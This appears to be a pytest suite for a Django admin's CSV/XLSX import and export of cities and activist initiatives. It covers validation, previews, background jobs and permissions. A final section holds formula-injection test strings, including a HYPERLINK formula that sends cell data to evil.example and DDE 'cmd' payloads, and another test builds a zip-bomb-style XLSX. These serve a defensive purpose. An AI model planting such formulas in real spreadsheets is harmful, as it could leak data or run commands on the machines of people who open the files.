"""Import of cities and initiatives from CSV and XLSX in the admin, and export of every list."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal
from urllib.parse import urlencode

import openpyxl
import pytest
import tablib
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from reversion.models import Version

from activism.models import City, ImportJob, Initiative, PublicationStatus
from activism.resources import (
    CityResource,
    InitiativeResource,
)
from activism.spreadsheets import FORMULA_STARTS
from activism.tasks import forget_import_preview

from .conftest import (
    CSV_FORMAT,
    XLSX_FORMAT,
    confirm,
    csv_file,
    fill_form,
    form_errors,
    image_upload,
    logged_in_client,
    make_author,
    make_city,
    make_initiative,
    make_post,
    make_region,
    make_staff,
    make_theme,
    submit_form,
    upload,
)

pytestmark = pytest.mark.django_db

CITY_HEADER = ["slug", "name_kk", "name_ru", "name_en", "region", "latitude", "longitude", "population"]
INITIATIVE_HEADER = ["slug", "name_en", "summary_en", "form", "themes", "cities", "publication_status"]


def xlsx_file(header, *rows, name="records.xlsx"):
    workbook = openpyxl.Workbook()
    workbook.active.append(header)
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return SimpleUploadedFile(name, buffer.getvalue())


def user_with_permissions(*codenames):
    """A logged-in staff member holding only these permissions (no role)."""
    user = make_staff("staff")
    user.user_permissions.set(Permission.objects.filter(content_type__app_label="activism", codename__in=codenames))
    return logged_in_client(user)


def rows_by_type(result):
    kinds = {}
    for row in result.rows:
        kinds.setdefault(row.import_type, []).append(row.object_repr)
    return {kind: sorted(names) for kind, names in kinds.items()}


def import_cities(*rows, header=CITY_HEADER, dry_run=False):
    dataset = tablib.Dataset(*rows, headers=header)
    return CityResource().import_data(dataset, dry_run=dry_run)


# The preview


def test_the_preview_lists_new_and_changed_rows_and_writes_nothing(admin_client, site_data):
    file = csv_file(
        CITY_HEADER,
        ["almaty", "", "", "Almaty", "almaty", "43.238949", "76.889709", "2200000"],  # population changed
        ["kokshetau", "", "", "Kokshetau", "akmola", "53.283333", "69.383333", ""],  # the same as stored
        ["taraz", "Тараз", "Тараз", "Taraz", "akmola", "42.9", "71.366667", "358000"],
    )
    preview = upload(admin_client, "city", file)
    result = preview.context["result"]
    assert rows_by_type(result) == {"new": ["Taraz"], "update": ["Almaty"], "skip": ["Kokshetau"]}
    assert "confirm_form" in preview.context
    content = preview.content.decode()
    assert "Preview" in content and "New" in content and "Update" in content
    assert not City.objects.filter(slug="taraz").exists()
    assert City.objects.get(slug="almaty").population is None

    response = confirm(admin_client, "city", preview)
    assert response.status_code == 302
    taraz = City.objects.get(slug="taraz")
    assert (taraz.name_ru, taraz.region, taraz.latitude) == ("Тараз", site_data["akmola"], Decimal("42.900000"))
    assert City.objects.get(slug="almaty").population == 2200000


def test_an_import_is_recorded_in_the_history(admin_client, site_data):
    file = csv_file(CITY_HEADER, ["taraz", "", "", "Taraz", "akmola", "42.9", "71.37", ""])
    confirm(admin_client, "city", upload(admin_client, "city", file))
    version = Version.objects.get_for_object(City.objects.get(slug="taraz")).get()
    assert version.revision.comment == "Imported from a file"
    assert version.revision.user.username == "admin"


def test_the_history_of_an_import_holds_each_record_with_its_themes_and_cities(admin_client, site_data):
    park = site_data["park"]
    file = csv_file(
        ["slug", "name_en", "summary_en", "themes", "cities"],
        ["oyan", "Oyan", "A movement.", "ecology;gender-and-feminism", "almaty;kokshetau"],
        ["save-the-park", "Save the Old Park", "A park.", "gender-and-feminism", "kokshetau"],
    )
    confirm(admin_client, "initiative", upload(admin_client, "initiative", file))
    oyan = Initiative.objects.get(slug="oyan")
    park.refresh_from_db()
    assert {theme.slug for theme in park.themes.all()} == {"gender-and-feminism"}
    assert [city.slug for city in park.cities.all()] == ["kokshetau"]
    versions = {version.object_id: version for version in Version.objects.get_for_model(Initiative)}
    revision = versions[str(oyan.pk)].revision
    assert revision.comment == "Imported from a file" and revision.user.username == "admin"
    assert versions[str(park.pk)].revision == revision  # one entry for the whole file
    fields = versions[str(oyan.pk)].field_dict
    assert set(fields["themes"]) == {site_data["ecology"].pk, site_data["feminism"].pk}
    assert set(fields["cities"]) == {site_data["almaty"].pk, site_data["kokshetau"].pk}
    fields = versions[str(park.pk)].field_dict
    assert (fields["name_en"], fields["themes"], fields["cities"]) == (
        "Save the Old Park",
        [site_data["feminism"].pk],
        [site_data["kokshetau"].pk],
    )


# Errors: each names its row and its column; none is a 500


def test_a_coordinate_out_of_range_is_an_error_on_its_row_and_column(admin_client, site_data):
    file = csv_file(
        CITY_HEADER,
        ["taraz", "", "", "Taraz", "akmola", "42.9", "71.37", ""],
        ["turkistan", "", "", "Turkistan", "akmola", "43.3", "68.25", ""],
        ["nowhere", "", "", "Nowhere", "akmola", "95", "68.25", ""],
    )
    preview = upload(admin_client, "city", file)
    [invalid] = preview.context["result"].invalid_rows
    assert invalid.number == 3
    assert list(invalid.field_specific_errors) == ["latitude"]
    assert "less than or equal to 90" in invalid.field_specific_errors["latitude"][0]
    content = preview.content.decode()
    assert "Some rows failed to validate" in content
    assert "latitude" in content
    assert "confirm_form" not in preview.context
    assert not City.objects.filter(slug__in=["taraz", "turkistan", "nowhere"]).exists()


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("latitude", "not a number", "is not a number of degrees"),
        ("longitude", "-190", "greater than or equal to -180"),
        ("latitude", "nan", "is not a number of degrees"),
        ("latitude", "", "cannot be null"),
        ("population", "-5", "greater than or equal to 0"),
        ("population", "many", "is not a whole number"),
        ("region", "Atlantis", "No region has the slug or the name “Atlantis”"),
        ("slug", "not a slug!", "valid “slug”"),
        ("name_en", "", "Every record needs this in English"),
    ],
)
def test_bad_values_are_row_errors_not_500s(admin_client, site_data, column, value, message):
    row = dict(zip(CITY_HEADER, ["taraz", "", "", "Taraz", "akmola", "42.9", "71.37", ""], strict=True))
    row[column] = value
    preview = upload(admin_client, "city", csv_file(CITY_HEADER, row.values()))
    [invalid] = preview.context["result"].invalid_rows
    assert invalid.number == 1
    assert message in " ".join(invalid.field_specific_errors[column])
    assert City.objects.count() == 3


def test_an_unknown_city_is_an_error_naming_it(admin_client, site_data):
    file = csv_file(
        INITIATIVE_HEADER,
        ["oyan", "Oyan", "A movement.", "movement", "ecology", "almaty", ""],
        ["lost", "Lost", "Somewhere.", "movement", "ecology", "almaty; Atlantis", ""],
    )
    preview = upload(admin_client, "initiative", file)
    [invalid] = preview.context["result"].invalid_rows
    assert invalid.number == 2
    assert "No city has the slug or the name “Atlantis”" in invalid.field_specific_errors["cities"][0]
    assert "Atlantis" in preview.content.decode()
    assert not Initiative.objects.filter(slug__in=["oyan", "lost"]).exists()


def test_every_error_of_a_row_is_reported_at_once(site_data):
    result = InitiativeResource().import_data(
        tablib.Dataset(
            ["bad", "", "", "zzz", "", "", "maybe", "2024-13-01", "2020", "2019"],
            headers=[
                "slug",
                "name_en",
                "summary_en",
                "form",
                "themes",
                "cities",
                "is_sensitive",
                "last_verified",
                "year_started",
                "year_ended",
            ],
        )
    )
    [invalid] = result.invalid_rows
    assert set(invalid.field_specific_errors) == {
        "name_en",
        "summary_en",
        "form",
        "themes",
        "is_sensitive",
        "last_verified",
    }
    assert not Initiative.objects.filter(slug="bad").exists()


def test_an_end_year_before_the_start_year_is_a_row_error(site_data):
    result = InitiativeResource().import_data(
        tablib.Dataset(
            ["oyan", "Oyan", "A movement.", "ecology", "2020", "2019"],
            headers=["slug", "name_en", "summary_en", "themes", "year_started", "year_ended"],
        )
    )
    [invalid] = result.invalid_rows
    assert "The year ended cannot be before the year started." in invalid.non_field_specific_errors


# All or nothing


def test_a_file_with_one_bad_row_writes_nothing(site_data):
    result = import_cities(
        ["taraz", "", "", "Taraz", "akmola", "42.9", "71.37", ""],
        ["turkistan", "", "", "Turkistan", "akmola", "43.3", "68.25", ""],
        ["nowhere", "", "", "Nowhere", "akmola", "95", "68.25", ""],
    )
    assert result.has_validation_errors()
    assert not City.objects.filter(slug__in=["taraz", "turkistan", "nowhere"]).exists()


def test_a_file_that_fails_when_confirmed_writes_nothing(admin_client, site_data):
    """The records changed between the preview and the import: nothing is written, and the admin says so."""
    taraz = make_city("Taraz", site_data["akmola"])
    file = csv_file(
        INITIATIVE_HEADER,
        ["oyan", "Oyan", "A movement.", "movement", "ecology", "almaty", ""],
        ["taraz-group", "Taraz Group", "A group.", "movement", "ecology", "taraz", ""],
    )
    preview = upload(admin_client, "initiative", file)
    assert "confirm_form" in preview.context
    taraz.delete()
    response = confirm(admin_client, "initiative", preview)
    assert response.status_code == 302
    assert response.url == reverse("admin:activism_initiative_import")
    assert not Initiative.objects.filter(slug__in=["oyan", "taraz-group"]).exists()
    message = admin_client.get(response.url).content.decode()
    assert "Nothing was imported" in message


def test_an_import_never_overwrites_what_someone_saved_after_the_preview(admin_client, editor, site_data):
    park = site_data["park"]
    exported = export(admin_client, "initiative", CSV_FORMAT)
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    for row in rows:
        if row["slug"] == "save-the-park":
            row["name_en"] = "Save the Old Park"
    line = 2 + [row["slug"] for row in rows].index("save-the-park")
    file = csv_file(list(rows[0]), *[row.values() for row in rows])
    preview = upload(admin_client, "initiative", file)
    assert "confirm_form" in preview.context

    # Meanwhile an editor saves a new summary.
    saved = submit_form(
        editor, reverse("admin:activism_initiative_change", args=[park.pk]), {"summary_en": "The editor's summary."}
    )
    assert saved.status_code == 302, form_errors(saved)

    response = confirm(admin_client, "initiative", preview)
    assert response.url == reverse("admin:activism_initiative_import")
    message = admin_client.get(response.url).content.decode()
    assert "Nothing was imported" in message
    assert f"save-the-park (line {line})" in message
    park.refresh_from_db()
    assert (park.name_en, park.summary_en) == ("Save the Park", "The editor's summary.")
    assert park.is_published  # the import would have returned it to draft

    # Uploaded again, the file shows what it would change now; confirmed at once, it is written.
    preview = upload(admin_client, "initiative", csv_file(["slug", "name_en"], ["save-the-park", "Save the Old Park"]))
    response = confirm(admin_client, "initiative", preview)
    assert "1 updated" in admin_client.get(response.url).content.decode()
    park.refresh_from_db()
    assert (park.name_en, park.summary_en) == ("Save the Old Park", "The editor's summary.")


def test_a_record_added_after_the_preview_under_a_slug_of_the_file_stops_the_import(admin_client, site_data):
    file = csv_file(INITIATIVE_HEADER, ["oyan", "Oyan", "A movement.", "movement", "ecology", "almaty", ""])
    preview = upload(admin_client, "initiative", file)
    make_initiative("Oyan by someone else", slug="oyan", summary_en="Someone else's.")
    response = confirm(admin_client, "initiative", preview)
    assert "oyan (line 2)" in admin_client.get(response.url).content.decode()
    assert Initiative.objects.get(slug="oyan").summary_en == "Someone else's."


# One line per record


def test_two_lines_with_the_same_slug_are_an_error_naming_both(admin_client, site_data):
    file = csv_file(
        INITIATIVE_HEADER,
        ["oyan", "Oyan", "A movement.", "movement", "ecology", "almaty", ""],
        ["taraz-group", "Taraz Group", "A group.", "movement", "ecology", "almaty", ""],
        ["oyan", "Oyan Again", "Another.", "movement", "ecology", "almaty", ""],
    )
    preview = upload(admin_client, "initiative", file)
    assert "confirm_form" not in preview.context
    content = preview.content.decode()
    for line in (2, 4):  # listed above the preview, and in the preview's table
        assert f"Line {line}, column slug: “oyan” is on lines 2, 4: give each record on one line only." in content
    assert content.count("“oyan” is on lines 2, 4: give each record on one line only.") == 4
    assert not Initiative.objects.filter(slug__in=["oyan", "taraz-group"]).exists()


# Files that cannot be imported: a clear sentence on the import page, never a traceback


def png_bytes():
    return image_upload().read()


@pytest.mark.parametrize(
    ("content", "file_format", "message"),
    [
        (b"name_en,summary_en\nOyan,A movement.\n", CSV_FORMAT, "The first line has no “slug” column"),
        ("slug,name_ru\noyan,Оян\n".encode("cp1251"), CSV_FORMAT, "Save it as “CSV UTF-8”"),
        ("slug,name_ru\noyan,Оян\n".encode("utf-16"), CSV_FORMAT, "The file is in UTF-16"),
        (b"slug,name_en\noyan,O\x00yan\n", CSV_FORMAT, "The file holds NUL bytes"),
        (b"slug,name_en\n", CSV_FORMAT, "no records under it"),
        (png_bytes, CSV_FORMAT, "The file holds NUL bytes"),
        (png_bytes, XLSX_FORMAT, "The file is no XLSX spreadsheet"),
    ],
    ids=["no-slug", "cp1251", "utf-16", "nul", "header-only", "png-as-csv", "png-as-xlsx"],
)
def test_a_file_that_cannot_be_imported_is_refused_with_a_clear_message(admin_client, content, file_format, message):
    content = content() if callable(content) else content
    preview = upload(admin_client, "initiative", SimpleUploadedFile("records.csv", content), file_format)
    page = preview.content.decode()
    assert message in page
    assert "Traceback" not in page and "encountered" not in page and ".py" not in page
    assert "confirm_form" not in preview.context
    assert not Initiative.objects.exists()


def test_the_import_page_states_the_limits_and_holds_to_them(admin_client, site_data, settings):
    settings.IMPORT_MAX_ROWS = 2
    page = admin_client.get(reverse("admin:activism_initiative_import")).content.decode()
    assert "One file takes at most 2 records and 20 MB" in page
    file = csv_file(["slug", "name_en"], ["a", "A"], ["b", "B"], ["c", "C"])
    response = upload(admin_client, "initiative", file)
    assert "The file has 3 rows; one import takes at most 2" in response.content.decode()
    assert not Initiative.objects.filter(slug__in=["a", "b", "c"]).exists()


def test_a_file_above_the_size_limit_is_refused(admin_client, site_data, settings):
    settings.IMPORT_MAX_FILE_MB = 1
    big = csv_file(["slug", "summary_en"], *[[f"slug-{n}", "x" * 1000] for n in range(1100)])
    response = upload(admin_client, "initiative", big)
    assert "The file is larger than 1 MB" in response.content.decode()


def test_an_xlsx_file_that_unpacks_too_large_is_refused_before_it_is_read(admin_client, site_data, settings):
    settings.IMPORT_MAX_UNPACKED_MB = 5
    buffer = io.BytesIO(xlsx_file(INITIATIVE_HEADER, ["oyan", "Oyan", "A movement.", "", "ecology", "", ""]).read())
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/padding.xml", b" " * 6 * 1024 * 1024)  # packs to a few kilobytes
    assert len(buffer.getvalue()) < 100_000
    response = upload(admin_client, "initiative", SimpleUploadedFile("bomb.xlsx", buffer.getvalue()), XLSX_FORMAT)
    assert "The spreadsheet unpacks to more than 5 MB" in response.content.decode()
    assert not Initiative.objects.filter(slug="oyan").exists()


def test_row_errors_name_spreadsheet_lines_counting_the_header(admin_client, site_data):
    file = csv_file(
        INITIATIVE_HEADER,
        ["oyan", "Oyan", "A movement.", "movement", "ecology", "almaty", ""],
        ["lost", "Lost", "Somewhere.", "movement", "ecology", "Atlantis", ""],
    )
    page = upload(admin_client, "initiative", file).content.decode()
    assert "<th>Line</th>" in page
    assert "<td>3</td>" in page  # the second record, under the header


# Large files: previewed, then imported, in the background by the task worker, with their progress

# The worker ends a test's transaction (these tests commit); on PostgreSQL it notes progress through a connection of
# its own.
in_background = pytest.mark.django_db(transaction=True, databases=["default", "progress"])


def group_rows(count, cities="almaty"):
    return [[f"group-{n}", f"Group {n}", "A group.", "movement", "ecology", cities, ""] for n in range(count)]


def run_worker():
    """The real task worker, run until the queue is empty."""
    call_command("db_worker", batch=True, reload=False, startup_delay=False, verbosity=0)


def upload_in_background(client, model, file, file_format=CSV_FORMAT):
    """A large file through the import page: the answer sends the browser to its job's page."""
    response = submit_form(
        client, reverse(f"admin:activism_{model}_import"), {"import_file": file, "format": file_format}
    )
    assert response.status_code == 302, form_errors(response)
    return response.url


def confirm_in_background(client, job_url):
    """The Confirm button of the job's page, once the worker has shown the preview."""
    response = submit_form(client, job_url, form_id="confirm-import")
    assert response.status_code == 302
    return response


@in_background
def test_a_large_file_is_previewed_in_the_background_and_imported_once_confirmed(admin_client, site_data, settings):
    settings.IMPORT_BACKGROUND_ROWS = 2
    page = admin_client.get(reverse("admin:activism_initiative_import")).content.decode()
    assert "more than 2 records is checked in the background" in page
    park = ["save-the-park", "Save the Old Park", "Summary of Save the Park.", "protest", "ecology", "almaty", ""]
    rows = [*group_rows(3), park]
    job_url = upload_in_background(admin_client, "initiative", csv_file(INITIATIVE_HEADER, *rows))
    waiting = admin_client.get(job_url).content.decode()
    assert "Waiting for the worker" in waiting
    assert '<meta http-equiv="refresh" content="2">' in waiting
    assert "0 of 4 lines read" in waiting

    run_worker()
    preview = admin_client.get(job_url)
    content = preview.content.decode()
    assert "Preview: 3 new, 1 to change, 0 unchanged. Nothing is written until you confirm." in content
    assert "http-equiv" not in content  # the page waits for the person, not for the worker
    assert "Confirm within 24 hours" in content
    assert "<td>Group 0</td>" in content and "<td>5</td>" in content  # the park's line
    assert "<del>Save the Park</del> &rarr; <ins>Save the Old Park</ins>" in content
    assert not Initiative.objects.filter(slug__startswith="group-").exists()
    assert Initiative.objects.get(slug="save-the-park").name_en == "Save the Park"

    confirm_in_background(admin_client, job_url)
    assert "Confirmed, waiting for the worker" in admin_client.get(job_url).content.decode()
    run_worker()
    done = admin_client.get(job_url).content.decode()
    assert "3 new, 1 updated, 0 unchanged." in done
    assert "4 of 4 lines read" in done
    assert "http-equiv" not in done
    assert Initiative.objects.filter(slug__startswith="group-", publication_status="draft").count() == 3
    park = Initiative.objects.get(slug="save-the-park")
    assert (park.name_en, park.publication_status) == ("Save the Old Park", "draft")
    version = Version.objects.get_for_object(park).first()
    assert version.revision.comment == "Imported from a file" and version.field_dict["name_en"] == "Save the Old Park"
    assert ImportJob.objects.get().file_data == b""  # the stored file is deleted once the job is done


@in_background
def test_a_large_file_with_one_bad_line_writes_nothing_and_names_the_line(admin_client, site_data, settings):
    settings.IMPORT_BACKGROUND_ROWS = 2
    rows = group_rows(4)
    rows[2][5] = "Atlantis"
    job_url = upload_in_background(admin_client, "initiative", csv_file(INITIATIVE_HEADER, *rows))
    run_worker()
    page = admin_client.get(job_url)
    content = page.content.decode()
    assert "Nothing was imported" in content
    assert "Line 4, column cities: No city has the slug or the name “Atlantis”" in content
    assert "confirm-import" not in content
    assert not Initiative.objects.filter(slug__startswith="group-").exists()
    assert ImportJob.objects.get().file_data == b""


@in_background
def test_a_save_between_the_background_preview_and_the_confirmation_stops_the_import(
    admin_client, editor, site_data, settings
):
    settings.IMPORT_BACKGROUND_ROWS = 2
    park = site_data["park"]
    exported = export(admin_client, "initiative", CSV_FORMAT)
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    for row in rows:
        row["summary_en"] = f"Checked: {row['summary_en']}"
    line = 2 + [row["slug"] for row in rows].index("save-the-park")
    job_url = upload_in_background(admin_client, "initiative", csv_file(list(rows[0]), *[row.values() for row in rows]))
    run_worker()
    assert "to change" in admin_client.get(job_url).content.decode()

    # Meanwhile an editor saves a new name.
    saved = submit_form(editor, reverse("admin:activism_initiative_change", args=[park.pk]), {"name_en": "Park Now"})
    assert saved.status_code == 302, form_errors(saved)

    confirm_in_background(admin_client, job_url)
    run_worker()
    page = admin_client.get(job_url).content.decode()
    assert "Nothing was imported" in page
    assert f"save-the-park (line {line})" in page
    park.refresh_from_db()
    assert (park.name_en, park.summary_en) == ("Park Now", "Summary of Save the Park.")
    assert park.is_published
    assert not Initiative.objects.filter(summary_en__startswith="Checked:").exists()


@in_background
def test_only_the_person_who_uploaded_a_file_sees_and_confirms_its_job(researcher, site_data, settings):
    settings.IMPORT_BACKGROUND_ROWS = 2
    job_url = upload_in_background(researcher, "initiative", csv_file(INITIATIVE_HEADER, *group_rows(3)))
    run_worker()
    page = researcher.get(job_url)
    assert "Confirm import" in page.content.decode()
    _action, data = fill_form(page, form_id="confirm-import")

    other_researcher = logged_in_client(make_staff("other", "Researcher"))
    assert other_researcher.get(job_url).status_code == 404
    assert other_researcher.post(job_url, data).status_code == 404
    another_model = reverse("admin:activism_city_import_job", args=[ImportJob.objects.get().pk])
    assert researcher.get(another_model).status_code == 404
    run_worker()
    assert ImportJob.objects.get().status == ImportJob.Status.PREVIEWED
    assert not Initiative.objects.filter(slug__startswith="group-").exists()

    superuser = logged_in_client(make_staff("chief", superuser=True))
    assert superuser.get(job_url).status_code == 200


@in_background
def test_a_cancelled_or_forgotten_preview_deletes_the_file_and_writes_nothing(admin_client, site_data, settings):
    settings.IMPORT_BACKGROUND_ROWS = 2
    cancelled = upload_in_background(admin_client, "initiative", csv_file(INITIATIVE_HEADER, *group_rows(3)))
    forgotten = upload_in_background(admin_client, "initiative", csv_file(INITIATIVE_HEADER, *group_rows(4)))
    run_worker()
    response = submit_form(admin_client, cancelled, {"_cancel": "1"}, form_id="confirm-import")
    assert response.status_code == 302
    page = admin_client.get(cancelled).content.decode()
    assert "The import was cancelled" in page and "Nothing was imported and the file was deleted" in page
    assert "confirm-import" not in page

    job = ImportJob.objects.get(rows_total=4)
    page = admin_client.get(forgotten)
    forget_import_preview.call(job.pk)  # what the worker runs CAISS_IMPORT_PREVIEW_HOURS after the preview
    assert submit_form(admin_client, forgotten, form_id="confirm-import", page=page).status_code == 302
    assert "This preview can no longer be confirmed" in admin_client.get(forgotten).content.decode()
    run_worker()
    assert set(ImportJob.objects.values_list("status", "file_data")) == {(ImportJob.Status.ABANDONED, b"")}
    assert not Initiative.objects.filter(slug__startswith="group-").exists()


@in_background
def test_a_file_of_1200_rows_is_previewed_a_page_at_a_time_and_imported(admin_client, site_data):
    job_url = upload_in_background(admin_client, "initiative", csv_file(INITIATIVE_HEADER, *group_rows(1200)))
    run_worker()
    content = admin_client.get(job_url).content.decode()
    assert "Preview: 1200 new, 0 to change, 0 unchanged." in content
    assert "<td>Group 99</td>" in content and "<td>Group 100</td>" not in content  # the first 100 rows only
    assert "and 1100 more new or changed rows, not listed here." in content
    confirm_in_background(admin_client, job_url)
    run_worker()
    assert "1200 new, 0 updated, 0 unchanged." in admin_client.get(job_url).content.decode()
    assert Initiative.objects.filter(slug__startswith="group-").count() == 1200
    revision = Version.objects.get_for_model(Initiative).latest("pk").revision
    assert revision.version_set.count() == 1200


# Finding cities and themes by slug or name, in any language and case


@pytest.mark.parametrize("written", ["almaty", "ALMATY", "Almaty", "Алматы", "алматы", "Алматы қаласы"])
def test_a_city_is_found_by_slug_or_by_its_name_in_any_language(site_data, written):
    almaty = site_data["almaty"]
    almaty.name_ru, almaty.name_kk = "Алматы", "Алматы қаласы"
    almaty.save()
    theme = site_data["ecology"]
    theme.name_ru, theme.name_kk = "Экология", "Экология"
    theme.save()
    result = InitiativeResource().import_data(
        tablib.Dataset(
            ["oyan", "Oyan", "A movement.", "ЭКОЛОГИЯ; Gender and feminism", f"{written}; Kokshetau"],
            headers=["slug", "name_en", "summary_en", "themes", "cities"],
        )
    )
    assert not result.has_errors() and not result.has_validation_errors()
    oyan = Initiative.objects.get(slug="oyan")
    assert set(oyan.cities.all()) == {almaty, site_data["kokshetau"]}
    assert set(oyan.themes.all()) == {theme, site_data["feminism"]}


def test_the_region_of_a_city_is_found_by_its_kazakh_name(site_data):
    akmola = site_data["akmola"]
    akmola.name_kk = "Ақмола облысы"
    akmola.save()
    import_cities(["taraz", "", "", "Taraz", "ақмола облысы", "42.9", "71.37", ""])
    assert City.objects.get(slug="taraz").region == akmola


def test_a_name_shared_by_two_records_asks_for_the_slug(site_data):
    make_city("Almaty Two", site_data["akmola"], slug="almaty-2", name_ru="Алматы")
    almaty = site_data["almaty"]
    almaty.name_ru = "Алматы"
    almaty.save()
    result = InitiativeResource().import_data(
        tablib.Dataset(
            ["oyan", "Oyan", "A movement.", "ecology", "Алматы"],
            headers=["slug", "name_en", "summary_en", "themes", "cities"],
        )
    )
    [invalid] = result.invalid_rows
    assert "give the slug instead" in invalid.field_specific_errors["cities"][0]
    assert "almaty, almaty-2" in invalid.field_specific_errors["cities"][0]


# Initiatives arrive as drafts


def test_imported_initiatives_arrive_as_drafts_whatever_the_file_says(admin_client, site_data):
    file = csv_file(INITIATIVE_HEADER, ["oyan", "Oyan", "A movement.", "movement", "ecology", "almaty", "published"])
    confirm(admin_client, "initiative", upload(admin_client, "initiative", file))
    oyan = Initiative.objects.get(slug="oyan")
    assert oyan.publication_status == PublicationStatus.DRAFT
    assert list(oyan.cities.all()) == [site_data["almaty"]]
    assert admin_client.get(oyan.get_absolute_url()).status_code == 404


def test_an_imported_change_to_a_published_initiative_returns_it_to_draft(site_data):
    park = site_data["park"]
    result = InitiativeResource().import_data(
        tablib.Dataset(["save-the-park", "A new summary."], headers=["slug", "summary_en"])
    )
    assert [row.import_type for row in result.rows] == ["update"]
    park.refresh_from_db()
    assert park.summary_en == "A new summary."
    assert park.publication_status == PublicationStatus.DRAFT
    assert list(park.cities.all()) == [site_data["almaty"]]  # columns not in the file are left as they were


def test_a_researcher_cannot_change_a_published_initiative_by_import(researcher, site_data):
    preview = upload(researcher, "initiative", csv_file(["slug", "summary_en"], ["save-the-park", "Changed."]))
    [invalid] = preview.context["result"].invalid_rows
    assert "only an editor may change it" in invalid.non_field_specific_errors[0]
    site_data["park"].refresh_from_db()
    assert site_data["park"].is_published


def test_an_empty_sensitive_cell_never_makes_a_sensitive_record_public(site_data):
    draft = site_data["draft"]
    draft.is_sensitive = True
    draft.save()
    InitiativeResource().import_data(tablib.Dataset(["secret-draft-initiative", ""], headers=["slug", "is_sensitive"]))
    draft.refresh_from_db()
    assert draft.is_sensitive


# XLSX


def test_an_xlsx_file_is_imported(admin_client, site_data):
    file = xlsx_file(
        [*INITIATIVE_HEADER, "year_started", "is_online", "last_verified"],
        ["oyan", "Oyan", "A movement.", "movement", "Ecology", "Almaty; kokshetau", None, 2019, 1, date(2024, 5, 31)],
    )
    preview = upload(admin_client, "initiative", file, XLSX_FORMAT)
    assert rows_by_type(preview.context["result"]) == {"new": ["Oyan"]}
    confirm(admin_client, "initiative", preview)
    oyan = Initiative.objects.get(slug="oyan")
    assert (oyan.year_started, oyan.is_online, oyan.last_verified) == (2019, True, date(2024, 5, 31))
    assert set(oyan.cities.values_list("slug", flat=True)) == {"almaty", "kokshetau"}


def test_an_xlsx_city_file_with_a_bad_row_writes_nothing(admin_client, site_data):
    file = xlsx_file(
        CITY_HEADER,
        ["taraz", None, "Тараз", "Taraz", "akmola", 42.9, 71.366667, 358000],
        ["turkistan", None, None, "Turkistan", "akmola", 43.3, 68.25, None],
        ["nowhere", None, None, "Nowhere", "akmola", 95, 68.25, None],
    )
    preview = upload(admin_client, "city", file, XLSX_FORMAT)
    [invalid] = preview.context["result"].invalid_rows
    assert (invalid.number, list(invalid.field_specific_errors)) == (3, ["latitude"])
    assert City.objects.count() == 3


# Export


def export(client, model, file_format, **filters):
    """What a researcher gets from the export page opened from a filtered list: every column ticked as the page
    offers them, the format chosen, the form sent."""
    url = reverse(f"admin:activism_{model}_export")
    if filters:
        url += "?" + urlencode(filters)
    response = submit_form(client, url, {"format": file_format})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    return response


def test_the_csv_export_holds_the_filtered_rows(admin_client, site_data):
    changelist = admin_client.get(
        reverse("admin:activism_initiative_changelist"), {"publication_status__exact": "draft"}
    )
    assert (
        f"{reverse('admin:activism_initiative_export')}?publication_status__exact=draft" in changelist.content.decode()
    )
    response = export(admin_client, "initiative", CSV_FORMAT, publication_status__exact="draft")
    assert response["Content-Disposition"].startswith('attachment; filename="Initiative-')
    assert response.content.startswith("\ufeff".encode())  # Excel reads the Cyrillic letters right
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row["slug"] for row in rows] == ["secret-draft-initiative"]
    assert rows[0]["cities"] == "zhezkazgan"
    assert rows[0]["publication_status"] == "draft"
    assert "search_text" not in rows[0] and "version" not in rows[0]


def test_the_xlsx_export_holds_the_filtered_rows(admin_client, site_data):
    response = export(admin_client, "city", XLSX_FORMAT, region__id__exact=site_data["akmola"].pk)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, *rows = list(sheet.values)
    assert "version" not in header
    assert [dict(zip(header, row, strict=True))["slug"] for row in rows] == ["kokshetau"]
    assert dict(zip(header, rows[0], strict=True))["region"] == "akmola"


def test_an_export_can_be_imported_again(admin_client, site_data):
    exported = export(admin_client, "initiative", CSV_FORMAT)
    file = SimpleUploadedFile("initiatives.csv", exported.content, content_type="text/csv")
    result = upload(admin_client, "initiative", file).context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    # Unchanged drafts are skipped; the published records would return to draft, and the preview shows it.
    assert rows_by_type(result) == {
        "skip": ["Secret Draft Initiative"],
        "update": ["Online Petition", "Save the Park", "Women's March"],
    }


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
@pytest.mark.parametrize("model", ["region", "city", "theme", "initiative", "author", "blogpost"])
def test_every_list_exports_without_internal_fields(admin_client, site_data, model, file_format):
    response = export(admin_client, model, file_format)
    if file_format == CSV_FORMAT:
        header = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    else:
        header = next(openpyxl.load_workbook(io.BytesIO(response.content)).active.values)
    assert "slug" in header
    assert "version" not in header and "search_text" not in header


# Text a spreadsheet would run as a formula

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MORE_FORMULAS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def records_with_formulas(model):
    """A record of the model whose text starts as formulas do; returns that text."""
    at, plus, minus = MORE_FORMULAS
    if model == "region":
        make_region(FORMULA, slug="-2-3-cmd")
        return [FORMULA, "-2-3-cmd"]
    if model == "city":
        make_city(FORMULA, make_region("Formula region", slug="-2-3-cmd"), slug="formula-city")
        return [FORMULA, "-2-3-cmd"]  # a related record's slug too
    if model == "theme":
        make_theme(FORMULA, slug="formula-theme", description=at)
        return [FORMULA, at]
    if model == "initiative":
        make_initiative(FORMULA, slug="formula", summary=at, description=plus, image_alt=minus, year_started=2019)
        return [FORMULA, at, plus, minus]
    if model == "author":
        make_author(FORMULA, slug="formula-author", affiliation=at, bio=plus)
        return [FORMULA, at, plus]
